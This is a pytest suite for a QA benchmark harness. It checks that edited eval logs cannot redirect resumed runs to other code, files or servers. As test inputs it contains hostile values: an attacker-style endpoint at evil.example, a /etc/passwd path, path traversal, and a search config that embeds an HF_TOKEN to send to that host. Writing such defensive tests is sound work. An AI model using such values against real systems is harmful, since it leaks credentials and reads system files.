"""An edited log, when it is resumed, does not determine what code runs, what is read, or where keys are sent."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("inspect_ai", reason="needs the extra run")

from inspect_ai import eval as inspect_eval
from inspect_ai import eval_retry
from inspect_ai.log import EvalLog, read_eval_log, write_eval_log
from inspect_ai.model import CachePolicy
from search_server import SearchServer

from qabench.benchmarks import benchmark, benchmark_names
from qabench.benchmarks.expertqa.passages import engine_passages
from qabench.errors import InputError
from qabench.retrieval.web.provider import load_provider
from qabench.runs.plan import task_options
from qabench.runs.running import start
from qabench.runs.trust import NAMES, SELECTIONS, arguments_to_repeat, checked_log, resume_command

PASSAGES = [{"_id": "a", "text": "The planets orbit the sun"}]


def run_of(task: str, folder: Path, **task_args: Any) -> Path:
    arguments = {"config": "sample", "prompt": "qabench"} | task_args
    (log,) = inspect_eval(
        task, model="mockllm/model", task_args=arguments, limit=1, log_dir=str(folder), display="none"
    )
    assert log.status == "success", log.error
    return Path(log.location)


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("logs")
    return {
        "fanoutqa": run_of("qabench/fanoutqa_closed_book", folder, lemmatizer="simplemma"),
        "expertqa": run_of("qabench/expertqa", folder),
    }


def edited(log: Path, folder: Path, edit: Callable[[EvalLog], None]) -> Path:
    content = read_eval_log(str(log))
    edit(content)
    write_eval_log(content, str(folder / "edited.eval"), format="eval")
    return folder / "edited.eval"


def with_arguments(log: Path, folder: Path, **arguments: Any) -> Path:
    return edited(log, folder, lambda content: content.eval.task_args_passed.update(arguments))


def test_a_log_chooses_no_code_and_no_server(logs: dict[str, Path], tmp_path: Path) -> None:
    def name_code(log: EvalLog) -> None:
        log.eval.task_file, log.eval.solver, log.eval.model = "evil.py", "evil.py@x", "openai-api/qabench/m"

    checked = checked_log(edited(logs["fanoutqa"], tmp_path, name_code))
    assert checked.eval.task_file is checked.eval.solver is None
    assert checked.eval.task == "qabench/fanoutqa_closed_book"
    log = edited(logs["fanoutqa"], tmp_path, lambda log: setattr(log.eval, "model_base_url", "http://evil.example/v1"))
    for named in (None, "http://mine.example/v1"):
        with pytest.raises(InputError, match=r"was run on the server http://evil\.example/v1"):
            checked_log(log, named)
    log = edited(logs["fanoutqa"], tmp_path, lambda log: setattr(log.eval, "task", "other/task"))
    with pytest.raises(InputError, match="'other/task', which is not a task of qabench"):
        checked_log(log)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("fanoutqa", {"judge": {"model": "m", "base_url": "http://evil.example/v1"}}),
        ("fanoutqa", {"questions": "/etc/passwd"}),
        ("fanoutqa", {"prompt": "prompts/evil.txt"}),
        ("fanoutqa", {"config": "../../evil"}),
        ("expertqa", {"retriever": "opensearch:http://evil.example/x", "method": "retrieve-read"}),
        ("expertqa", {"search": "evil.toml", "method": "post-hoc-web"}),
    ],
)
def test_paths_addresses_models_and_texts_are_repeated(
    logs: dict[str, Path], tmp_path: Path, name: str, arguments: dict[str, Any]
) -> None:
    log = with_arguments(logs[name], tmp_path, **arguments)
    (option, value), *_ = arguments.items()
    with pytest.raises(InputError, match=f"was run with {option}. Paths, addresses.*-T '?{option}="):
        checked_log(log)
    assert f"{option}=" in resume_command(log)
    assert checked_log(log, task_args={option: value}).eval.task_args_passed[option] == value
    with pytest.raises(InputError, match=f"was run with {option}=.*, not 'other'"):
        checked_log(log, task_args={option: "other"})


def test_numbers_and_known_names_are_taken_from_a_log(logs: dict[str, Path], tmp_path: Path) -> None:
    arguments = {"method": "retrieve-read", "k": 3, "ranker": "dense", "ids": ["a"]}
    log = with_arguments(logs["expertqa"], tmp_path, **arguments)
    assert checked_log(log).eval.task_args_passed["k"] == 3
    with pytest.raises(InputError, match="was run with k=3, not 4"):
        checked_log(log, task_args={"k": 4})


def test_texts_are_repeated_unless_they_are_known_names() -> None:
    for name in benchmark_names():
        for setting in benchmark(name).settings:
            for option in task_options(benchmark(name), setting):
                for text in ("/evil", *NAMES.get(option.name, ())):
                    arguments = dict(setting.arguments) | {option.name: text}
                    repeated = option.name in arguments_to_repeat(setting.task, arguments)
                    assert repeated == (text == "/evil" and option.name not in SELECTIONS), (option.name, text)


def test_generation_options_are_numbers_and_known_names(logs: dict[str, Path], tmp_path: Path) -> None:
    def add(log: EvalLog) -> None:
        for config in (log.plan.config, log.eval.model_generate_config):
            config.extra_headers = {"X-Forward": "http://evil.example"}
            config.temperature, config.reasoning_effort = 0.5, "low"
            config.cache = CachePolicy(expiry=None)
        log.eval.config.notification = "http://evil.example"
        log.eval.config.epochs_reducer = ["evil"]

    checked = checked_log(edited(logs["fanoutqa"], tmp_path, add))
    for config in (checked.plan.config, checked.eval.model_generate_config):
        assert config.extra_headers is None and config.cache is True
        assert (config.temperature, config.reasoning_effort) == (0.5, "low")
    assert checked.eval.config.notification is checked.eval.config.epochs_reducer is None
    for name, value in {"extra_body": {"a": 1}, "system_message": "Say 7.", "fallback_models": ["m"]}.items():
        log = edited(logs["fanoutqa"], tmp_path, lambda log, n=name, v=value: setattr(log.plan.config, n, v))
        with pytest.raises(InputError, match=f"the generation option {name}, which is not read from a log"):
            checked_log(log)


def test_search_keys_go_to_the_host_of_the_call_only(
    logs: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("opensearchpy", reason="needs the extra opensearch")
    monkeypatch.setenv("QABENCH_SEARCH_USER", "user")
    monkeypatch.setenv("QABENCH_SEARCH_PASSWORD", "s3cret")
    with SearchServer(PASSAGES) as server:
        arguments = {"method": "retrieve-read", "retriever": f"opensearch:{server.url}/passages"}

        def edit(log: EvalLog) -> None:
            log.eval.task_args_passed.update(arguments)
            log.status, log.samples = "error", []

        log = edited(logs["expertqa"], tmp_path, edit)
        eval_retry(str(log), log_dir=str(tmp_path / "retried"), display="none")  # Inspect's own command takes all
        assert server.calls and server.logins == {None}
        engine_passages.cache_clear()
        monkeypatch.setenv("QABENCH_SEARCH_URL", server.url)
        eval_retry(str(log), log_dir=str(tmp_path / "retried"), display="none")
        assert len(server.logins) == 2
    monkeypatch.delenv("QABENCH_SEARCH_URL")
    engine_passages.cache_clear()
    with SearchServer(PASSAGES) as server:
        server.login = ("user", "s3cret")
        arguments = {"config": "sample", "prompt": "qabench", "retriever": f"opensearch:{server.url}/passages"}
        start("expertqa", "retrieve-read", "mockllm/model", task_args=arguments, log_dir=tmp_path, limit=1)
        assert server.logins and None not in server.logins


def test_search_files_use_only_the_variables_that_are_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HF_TOKEN", "CUSTOM_SEARCH_API_KEY", "CUSTOM_SEARCH_CX"):
        monkeypatch.setenv(name, "s3cret")
    path = tmp_path / "search.toml"
    path.write_text('url = "http://evil.example"\nresults = "r"\naddress = "a"\n[params]\nq = "{query} ${HF_TOKEN}"\n')
    with pytest.raises(InputError, match=r"HF_TOKEN, which would be sent to http://evil\.example"):
        load_provider(str(path))
    path.write_text('preset = "google"\nurl = "http://evil.example"\n')
    with pytest.raises(InputError, match=r"CUSTOM_SEARCH_API_KEY, which would be sent to http://evil\.example"):
        load_provider(str(path))
